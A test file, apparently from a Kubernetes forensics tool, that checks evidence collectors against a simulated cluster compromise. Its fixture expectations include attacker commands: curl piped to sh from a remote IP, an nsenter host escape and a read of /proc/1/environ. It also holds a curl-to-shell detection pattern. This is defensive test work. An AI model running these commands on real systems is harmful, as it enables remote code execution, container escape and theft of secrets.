/**
 * All eight sources against the fixture's compromise scenario: counts equal what the API
 * serves (computed from the fixture, not hard-coded), and the attack shows in the rows.
 */
import { KUBEFORENSYS_SOURCES, SOURCES } from '../../shared/sources/registry.js';
import type { Collected } from './helpers.js';
import { collect, context, startCluster } from './helpers.js';
import { loadScenario } from '../../shared/simulator/kube/loadScenario.js';
import { lineCount } from '../../shared/simulator/kube/logs.js';
import type { FixtureCluster, KubeObject } from '../../shared/simulator/kube/scenario.js';

type Obj = KubeObject & Record<string, unknown>;

describe('the eight sources on the compromise scenario', () => {
  let cluster: FixtureCluster;
  const results = new Map<string, Collected>();
  const now = new Date(Math.floor(Date.now() / 1000) * 1000);

  beforeAll(async () => {
    const scenario = await loadScenario('compromise', { now });
    const started = await startCluster(scenario, { now: () => now, maxPageSize: 7 });
    cluster = started.cluster;
    for (const source of KUBEFORENSYS_SOURCES.map((name) => SOURCES.get(name))) {
      results.set(source.name, await collect(source, context(started.kc, { clock: () => now, concurrency: 8 })));
    }
  });
  afterAll(async () => {
    await cluster.stop();
  });

  const r = (name: string): Collected => results.get(name)!;

  test('events, service accounts: one row per served object', () => {
    expect(r('events').rows).toHaveLength(cluster.objectsOf('v1', 'Event').length);
    expect(r('events').gaps).toEqual([]);
    expect(r('serviceaccounts').rows).toHaveLength(cluster.objectsOf('v1', 'ServiceAccount').length);
    const wi = r('serviceaccounts').rows.filter((x) => x['workload_identity_client_id'] !== '');
    expect(wi.length).toBeGreaterThan(0);
  });

  test('RBAC: one row per subject, bindings without subjects included; the anonymous cluster-admin binding is there', () => {
    const bindings = [...cluster.objectsOf('rbac.authorization.k8s.io/v1', 'RoleBinding'), ...cluster.objectsOf('rbac.authorization.k8s.io/v1', 'ClusterRoleBinding')] as Obj[];
    const expected = bindings.reduce((n, b) => n + Math.max(1, ((b['subjects'] as unknown[] | undefined) ?? []).length), 0);
    expect(r('rbacbindings').rows).toHaveLength(expected);
    expect(r('rbacbindings').rows).toContainEqual(
      expect.objectContaining({ binding_type: 'ClusterRoleBinding', binding_name: 'anonymous-admin', subject_name: 'system:anonymous', role_ref_name: 'cluster-admin' }),
    );
    expect(r('rbacbindings').rows).toContainEqual(
      expect.objectContaining({ binding_name: 'toolbox-edit', subject_kind: 'ServiceAccount', subject_name: 'toolbox', subject_namespace: 'dev' }),
    );
  });

  test('cronjobs: one row per container; the curl | sh job from an unknown registry is there', () => {
    const jobs = cluster.objectsOf('batch/v1', 'CronJob') as Obj[];
    const expected = jobs.reduce((n, j) => {
      const spec = ((((j['spec'] as Obj)['jobTemplate'] as Obj)['spec'] as Obj)['template'] as Obj)['spec'] as Obj;
      return n + ((spec['containers'] as unknown[]) ?? []).length + ((spec['initContainers'] as unknown[] | undefined) ?? []).length;
    }, 0);
    expect(r('cronjobs').rows).toHaveLength(expected);
    const evil = r('cronjobs').rows.filter((x) => /curl .*\| *(ba)?sh/.test(`${x['command']} ${x['args']}`));
    expect(evil.length).toBeGreaterThan(0);
  });

  test('network policies: every policy plus every namespace without one', () => {
    const policies = cluster.objectsOf('networking.k8s.io/v1', 'NetworkPolicy');
    const withPolicy = new Set(policies.map((p) => p.metadata.namespace));
    const bare = cluster.objectsOf('v1', 'Namespace').filter((n) => !withPolicy.has(n.metadata.name));
    const rows = r('networkpolicies').rows;
    expect(rows.filter((x) => x['no_policy'] === false)).toHaveLength(policies.length);
    expect(
      rows
        .filter((x) => x['no_policy'] === true)
        .map((x) => x['namespace'])
        .sort(),
    ).toEqual(bare.map((n) => n.metadata.name).sort());
  });

  test('suspicious pods: the privileged pod mounting the host root', () => {
    const rows = r('suspiciouspods').rows;
    const root = rows.find((x) => x['issue_type'] === 'sensitiveHostPath' && String(x['details']).startsWith('sensitive host path /:'));
    expect(root).toBeDefined();
    expect(rows).toContainEqual(expect.objectContaining({ pod_name: root!['pod_name'], issue_type: 'privileged' }));
  });

  test('container logs: every served log stream, every line, nothing else', () => {
    const out = r('containerlogs');
    const logRequests = cluster.requestLog.filter((x) => x.path.endsWith('/log'));
    // One pod list (7 per page) plus one request per log stream.
    expect(out.requests).toBe(logRequests.length + Math.ceil(cluster.objectsOf('v1', 'Pod').length / 7));
    let expectedLines = 0;
    for (const req of logRequests.filter((x) => x.status === 200)) {
      const [, ns, pod] = /^\/api\/v1\/namespaces\/([^/]+)\/pods\/([^/]+)\/log$/.exec(req.path)!;
      const q = new URLSearchParams(req.query);
      const previous = q.get('previous') === 'true';
      const key = `${ns}/${pod}/${q.get('container')}`;
      const lines = lineCount(cluster.scenario.logs?.[key], previous);
      const rows = out.rows.filter((x) => `${x['namespace']}/${x['pod_name']}/${x['container_name']}` === key && x['previous'] === previous);
      expect([key, previous, rows.length]).toEqual([key, previous, lines]);
      expectedLines += lines;
    }
    expect(out.rows).toHaveLength(expectedLines);
    // Every log stream the scenario holds for a pod that exists was asked for.
    const pods = new Set(cluster.objectsOf('v1', 'Pod').map((p) => `${p.metadata.namespace}/${p.metadata.name}`));
    for (const key of Object.keys(cluster.scenario.logs ?? {})) {
      const podKey = key.split('/').slice(0, 2).join('/');
      if (!pods.has(podKey)) continue;
      const [ns, pod, container] = key.split('/');
      expect([key, logRequests.some((x) => x.path === `/api/v1/namespaces/${ns}/pods/${pod}/log` && x.query.includes(`container=${container}`))]).toEqual([key, true]);
    }
    expect(out.raws).toHaveLength(cluster.objectsOf('v1', 'Pod').length);
  });

  test('command history: the attacker commands, and every exec recorded', () => {
    const out = r('commandhistory');
    const commands = out.rows.map((x) => String(x['command']));
    expect(commands).toEqual(expect.arrayContaining(['curl -s http://198.51.100.7/x.sh | sh', 'nsenter -t 1 -m -u -i -n sh', 'cat /proc/1/environ', 'kubectl auth can-i --list']));
    expect(out.rows.find((x) => x['command'] === 'nsenter -t 1 -m -u -i -n sh')).toMatchObject({ shell: 'bash', user: 'root', command_time: expect.any(String) });
    expect(out.actions).toHaveLength(cluster.execLog.length);
    // Distroless containers: no-shell actions and a coverage count, not gaps.
    expect(out.actions.filter((a) => a.outcome === 'no-shell').length).toBeGreaterThan(0);
    expect((out.coverage[0] as { commandhistory: { withoutShell: number } }).commandhistory.withoutShell).toBeGreaterThan(0);
    expect(out.gaps.filter((g) => g.reason === 'no-shell' || g.reason === 'no-history')).toEqual([]);
    expect(out.gaps.some((g) => g.reason === 'error' || g.reason === 'exec-failed')).toBe(false);
  });
});
